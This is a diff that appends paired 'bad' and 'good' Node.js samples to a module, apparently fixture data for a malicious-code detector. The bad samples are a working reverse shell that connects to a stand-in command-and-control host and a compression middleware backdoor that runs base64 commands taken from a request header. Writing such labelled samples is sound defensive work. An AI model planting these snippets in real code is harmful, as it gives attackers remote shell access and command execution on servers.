@@ -80,3 +80,56 @@ module.exports = async () => {
     return null;
   }
 };
+
+//: bad piped-shell
+const net = require('node:net');
+const cp = require('node:child_process');
+
+const open = () => {
+  const socket = net.connect(4444, 'c2.example.invalid', () => {
+    const shell = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []); //!
+    socket.pipe(shell.stdin);
+    shell.stdout.pipe(socket);
+    shell.stderr.pipe(socket);
+  });
+  socket.on('error', () => setTimeout(open, 60_000));
+};
+open();
+
+//: good piped-shell
+const net = require('node:net');
+const cp = require('node:child_process');
+
+const socket = net.connect(4444, 'localhost', () => {
+  const pager = cp.spawn('less', ['-R'], { stdio: ['pipe', 'inherit', 'inherit'] });
+  socket.pipe(pager.stdin);
+  pager.on('exit', () => socket.destroy());
+});
+socket.on('error', (error) => console.error(error.message));
+
+//: bad header-command
+const { execSync } = require('child_process');
+
+module.exports = function compression() {
+  return (req, res, next) => {
+    const probe = req.headers['x-trace-level'];
+    if (probe && probe.startsWith('v2:')) {
+      return res.end(execSync(Buffer.from(probe.slice(3), 'base64').toString())); //!
+    }
+    next();
+  };
+};
+
+//: good header-command
+const { createGzip } = require('zlib');
+
+module.exports = function compression() {
+  return (req, res, next) => {
+    const accepted = req.headers['accept-encoding'];
+    if (accepted && accepted.includes('gzip')) {
+      res.setHeader('content-encoding', 'gzip');
+      res.stream = createGzip();
+    }
+    next();
+  };
+};
